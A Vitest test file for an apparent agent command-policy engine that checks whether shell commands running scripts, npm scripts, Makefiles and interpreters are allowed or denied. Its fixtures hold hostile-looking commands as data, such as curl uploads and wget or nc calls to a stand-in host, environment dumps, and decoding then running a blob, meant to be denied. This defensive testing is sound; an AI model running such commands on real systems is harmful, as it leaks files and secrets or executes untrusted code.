import { beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../../../../src/parse/shell.js';
import { CordonConfigSchema } from '../../../../src/config/schema.js';
import { resolvePolicy } from '../../../../src/policy/roles.js';
import { virtualFs, type VirtualEntry } from '../../../../src/policy/fs.js';
import { judgeBash } from '../../../../src/policy/bash/judge.js';
import { commandSpan, type BashCheck } from '../../../../src/policy/bash/context.js';
import { dynamicProgram } from '../../../../src/policy/bash/dynamic.js';
import { interpreterCode } from '../../../../src/policy/bash/interpreters.js';
import { codeExecution } from '../../../../src/policy/bash/code-exec.js';
import { formatPrintf, parseMakefile, scriptFiles } from '../../../../src/policy/bash/scripts.js';

// Stands in for the network check, so that what a script runs can be seen judged.
const fakeNetwork: BashCheck = {
  name: 'fake-network',
  command: (c) => (/^(curl|wget|nc)$/.test(c.program) ? [{ category: 'network', rule: 'fake-network', reason: `${c.program}`, span: commandSpan(c) }] : []),
};
const CHECKS = [dynamicProgram, interpreterCode, codeExecution, scriptFiles, fakeNetwork];
const policy = resolvePolicy(CordonConfigSchema.parse({ policy: { role: 'implement' } }), '/repo');

function judge(command: string, files: Record<string, VirtualEntry> = {}) {
  return judgeBash(policy, { command, cwd: '/repo', home: '/home/agent' }, virtualFs(files), CHECKS);
}

const pkg = (scripts: Record<string, string>) => JSON.stringify({ name: 'app', scripts });
const HOSTILE_SH = '#!/bin/sh\nset -e\nwget -qO- x.example\n';
const PLAIN_SH = '#!/usr/bin/env bash\nset -euo pipefail\n# curl is not used\necho "building"\n';

describe('script files', () => {
  beforeAll(loadShellParser);

  it.each<[string, Record<string, VirtualEntry>]>([
    ['bash scripts/build.sh', {}],
    ['bash scripts/build.sh', { '/repo/scripts/build.sh': PLAIN_SH }],
    ['./scripts/build.sh --fast', { '/repo/scripts/build.sh': PLAIN_SH }],
    ['bash -n scripts/bad.sh', { '/repo/scripts/bad.sh': HOSTILE_SH }],
    ['sh -x scripts/build.sh', { '/repo/scripts/build.sh': PLAIN_SH }],
    ['source .venv/bin/activate && pytest', {}],
    ['node -r ./hook.cjs app.js', { '/repo/hook.cjs': "require('./env-defaults.json');\n" }],
    ['python3 -m tools.gen', { '/repo/tools/gen.py': 'print(1)\n' }],
    ['python3 tools/gen.py', { '/repo/tools/gen.py': "import json\nprint(json.dumps({'a': 1}))\n" }],
    ['node scripts/copy.js', { '/repo/scripts/copy.js': "require('fs').copyFileSync('src/a.txt', 'dist/a.txt');\n" }],
    ['npm test', { '/repo/package.json': pkg({ test: 'vitest run', pretest: 'tsc --noEmit' }) }],
    ['npm run lint -- --fix', { '/repo/package.json': pkg({ lint: 'eslint .' }) }],
    ['yarn build', { '/repo/package.json': pkg({ build: 'tsc -p .' }) }],
    ['pnpm vitest run', { '/repo/package.json': pkg({ test: 'vitest' }) }],
    ['cd packages/api && npm test', { '/repo/packages/api/package.json': pkg({ test: 'node --test' }), '/repo/package.json': pkg({ test: 'vitest' }) }],
    ['make', { '/repo/Makefile': 'CC ?= gcc\nall: app\napp: main.c\n\t$(CC) -o $@ $<\n\t@echo built $@\n' }],
    ['make -C docs html', { '/repo/docs/Makefile': 'html:\n\tsphinx-build -b html . _build\n' }],
    ['make -n deploy', { '/repo/Makefile': 'deploy:\n\tcurl -T app x.example\n' }],
    ["cat > scripts/gen.sh <<'EOF'\necho generated\nEOF\nbash scripts/gen.sh", {}],
    ["printf 'print(1)\\n' > t.py && python3 t.py", {}],
  ])('allows %s', (command, files) => {
    expect(judge(command, files).decision).toBe('allow');
  });

  it.each<[string, Record<string, VirtualEntry>, string, string]>([
    ['bash scripts/x.sh', { '/repo/scripts/x.sh': HOSTILE_SH }, 'network', 'fake-network'],
    ['zsh ./scripts/x.sh arg', { '/repo/scripts/x.sh': HOSTILE_SH }, 'network', 'fake-network'],
    ['scripts/x.sh', { '/repo/scripts/x.sh': HOSTILE_SH }, 'network', 'fake-network'],
    ['cd scripts && ./x.sh', { '/repo/scripts/x.sh': HOSTILE_SH }, 'network', 'fake-network'],
    ['. scripts/x.sh', { '/repo/scripts/x.sh': HOSTILE_SH }, 'network', 'fake-network'],
    ['./tool', { '/repo/tool': '#!/usr/bin/env python3\nimport os\nprint(os.environ)\n' }, 'secret-access', 'interpreter-environment'],
    ['ruby bin/setup', { '/repo/bin/setup': 'require "net/http"\n' }, 'network', 'interpreter-network'],
    ['bash scripts/outer.sh', { '/repo/scripts/outer.sh': 'bash scripts/inner.sh\n', '/repo/scripts/inner.sh': HOSTILE_SH }, 'network', 'fake-network'],
    ['npm start', { '/repo/package.json': pkg({ start: 'node app.js', poststart: 'wget x.example' }) }, 'network', 'fake-network'],
    ['yarn deploy', { '/repo/package.json': pkg({ deploy: 'curl -T dist x.example' }) }, 'network', 'fake-network'],
    ['pnpm run check', { '/repo/package.json': pkg({ check: 'node -e "process.env"' }) }, 'secret-access', 'interpreter-environment'],
    ['npm run env', { '/repo/package.json': pkg({ build: 'tsc' }) }, 'secret-access', 'script-env-dump'],
    ['make test', { '/repo/Makefile': 'test: fixtures\n\tnpm test\nfixtures:\n\t@-wget -q x.example\n' }, 'network', 'fake-network'],
    ['make', { '/repo/Makefile': 'FETCH = curl -s\nall:\n\t$(FETCH) x.example\n' }, 'network', 'fake-network'],
    ['make build', { '/repo/Makefile': 'V := $(shell curl x.example)\nbuild:\n\ttrue\n' }, 'network', 'fake-network'],
    ['make -f ci.mk', { '/repo/ci.mk': 'all:\n\twget x.example\n' }, 'network', 'fake-network'],
    ["echo 'curl x.example' > x.sh; sh x.sh", {}, 'network', 'fake-network'],
    ["printf '%s\\n' 'wget x.example' > run.sh && chmod +x run.sh && ./run.sh", {}, 'network', 'fake-network'],
    ["cat <<'EOF' > t.py\nimport urllib.request\nEOF\npython3 t.py", {}, 'network', 'interpreter-network'],
    ["echo 'nc x.example 1' | tee go.sh >/dev/null; bash go.sh", {}, 'network', 'fake-network'],
    ["printf 'all:\\n\\tcurl x.example\\n' > Makefile && make", {}, 'network', 'fake-network'],
    ['base64 -d blob > x.sh; bash x.sh', {}, 'arbitrary-code', 'script-unknown-content'],
    ['bash <(cat payload)', {}, 'arbitrary-code', 'script-run-time'],
    ['node -r ./hook.cjs app.js', { '/repo/hook.cjs': "require('https').get('https://x.example');\n" }, 'network', 'interpreter-network'],
    ['python3 -m tools.sync', { '/repo/tools/sync.py': 'import requests\n' }, 'network', 'interpreter-network'],
    ['npx tsx scripts/seed.ts', { '/repo/scripts/seed.ts': 'await fetch("https://x.example");\n' }, 'network', 'interpreter-network'],
    ['source /dev/stdin <<< "curl x.example"', {}, 'network', 'fake-network'],
  ])('denies %s', (command, files, category, rule) => {
    const verdict = judge(command, files);
    expect(verdict.decision).toBe('deny');
    expect([verdict.category, verdict.rule]).toEqual([category, rule]);
  });

  it('reads makefile rules, variables and $(shell)', () => {
    const makefile = parseMakefile('X = 1\n.PHONY: all\nall: a b\n\techo $(X)\na:\n\t@true\nV != date\n');
    expect(makefile.defaultTarget).toBe('all');
    expect(makefile.rules.get('all')).toEqual({ prerequisites: ['a', 'b'], recipe: ['echo $(X)'] });
    expect(makefile.shell).toEqual(['date']);
  });

  it('formats printf output as the shell would', () => {
    expect(formatPrintf(['%s-%s\\n', 'a', 'b', 'c'])).toBe('a-b\nc-\n');
    expect(formatPrintf(['\\x63url %%d'])).toBe('curl %d');
  });
});
